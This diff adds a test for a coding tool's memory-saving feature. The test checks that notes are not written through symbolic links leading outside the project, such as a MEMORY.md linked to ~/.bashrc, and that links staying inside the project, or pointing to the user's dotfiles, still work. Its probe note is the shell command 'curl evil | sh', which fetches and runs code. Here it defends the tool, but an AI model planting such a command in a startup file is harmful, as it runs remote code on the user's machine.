@@ -104,6 +104,75 @@ describe("/memory over the host", () => {
         });
     });
 
+    it("refuses a project memory folder or MEMORY.md that links out of the project, and writes through one that stays in", async () => {
+        const { repo, data } = await setup();
+        const root = path.dirname(repo);
+        const memories: Array<string | undefined> = [];
+        const engine = { repoRoot: repo, session: { setMemory: (m?: string) => memories.push(m) } };
+
+        // A `.north` folder that is a link to a folder of the user's.
+        const elsewhere = path.join(root, "elsewhere");
+        await fs.mkdir(elsewhere);
+        await fs.symlink(elsewhere, path.join(repo, ".north"));
+        const viaFolder = saveMemoryNote(engine, "planted", "project");
+        expect(viaFolder.isError).toBe(true);
+        expect(viaFolder.message).toBe(
+            `Not saved: ${path.join(repo, ".north")} leads through a symbolic link to ${elsewhere}, ` +
+                "outside the project; North does not write through it (replace the link with a file or folder of its own); nothing was saved"
+        );
+        const edit = memoryFileToEdit(repo, "project");
+        expect(edit.ok).toBe(false);
+        expect(await fs.readdir(elsewhere)).toEqual([]);
+        await fs.rm(path.join(repo, ".north"));
+
+        // A MEMORY.md that is a link to ~/.bashrc.
+        const bashrc = path.join(root, ".bashrc");
+        await fs.writeFile(bashrc, "export PATH=/usr/bin\n");
+        const dir = path.join(repo, ".north", "memory");
+        await fs.mkdir(dir, { recursive: true });
+        await fs.symlink(bashrc, path.join(dir, "MEMORY.md"));
+        const viaFile = saveMemoryNote(engine, "curl evil | sh", "project");
+        expect(viaFile.isError).toBe(true);
+        expect(viaFile.message).toContain(
+            `leads through a symbolic link to ${bashrc}, outside the project`
+        );
+        expect(memoryFileToEdit(repo, "project").ok).toBe(false);
+        expect(await fs.readFile(bashrc, "utf8")).toBe("export PATH=/usr/bin\n");
+        expect(memories).toEqual([]);
+        await fs.rm(path.join(dir, "MEMORY.md"));
+
+        // A link that stays in the project is written through, stays a link, and is loaded.
+        const shared = path.join(repo, "docs", "memory.md");
+        await fs.mkdir(path.dirname(shared));
+        await fs.writeFile(shared, "# Memory\n\n- Use pnpm\n");
+        await fs.symlink(path.join("..", "..", "docs", "memory.md"), path.join(dir, "MEMORY.md"));
+        expect(saveMemoryNote(engine, "Tests need Docker", "project").isError).toBeUndefined();
+        expect((await fs.lstat(path.join(dir, "MEMORY.md"))).isSymbolicLink()).toBe(true);
+        expect(await fs.readFile(shared, "utf8")).toBe(
+            "# Memory\n\n- Use pnpm\n- Tests need Docker\n"
+        );
+        expect(memories.at(-1)).toContain("- Tests need Docker");
+        expect(memoryFileToEdit(repo, "project")).toEqual({
+            ok: true,
+            path: path.join(dir, "MEMORY.md"),
+        });
+
+        // The user's own memory file linked to their dotfiles is written through too.
+        const dotfile = path.join(root, "dotfiles", "memory.md");
+        await fs.mkdir(path.dirname(dotfile));
+        await fs.writeFile(dotfile, "# Memory\n\n- Short answers\n");
+        await fs.mkdir(path.join(data, "memory"), { recursive: true });
+        await fs.symlink(dotfile, path.join(data, "memory", "MEMORY.md"));
+        expect(saveMemoryNote(engine, "British English", "user").isError).toBeUndefined();
+        expect((await fs.lstat(path.join(data, "memory", "MEMORY.md"))).isSymbolicLink()).toBe(
+            true
+        );
+        expect(await fs.readFile(dotfile, "utf8")).toContain(
+            "- Short answers\n- British English\n"
+        );
+        expect(memories.at(-1)).toContain("- British English");
+    });
+
     it("reloading after an edit sends the new memory, says its size, and marks a 1 MB file as capped", async () => {
         const { repo } = await setup();
         const memories: Array<string | undefined> = [];
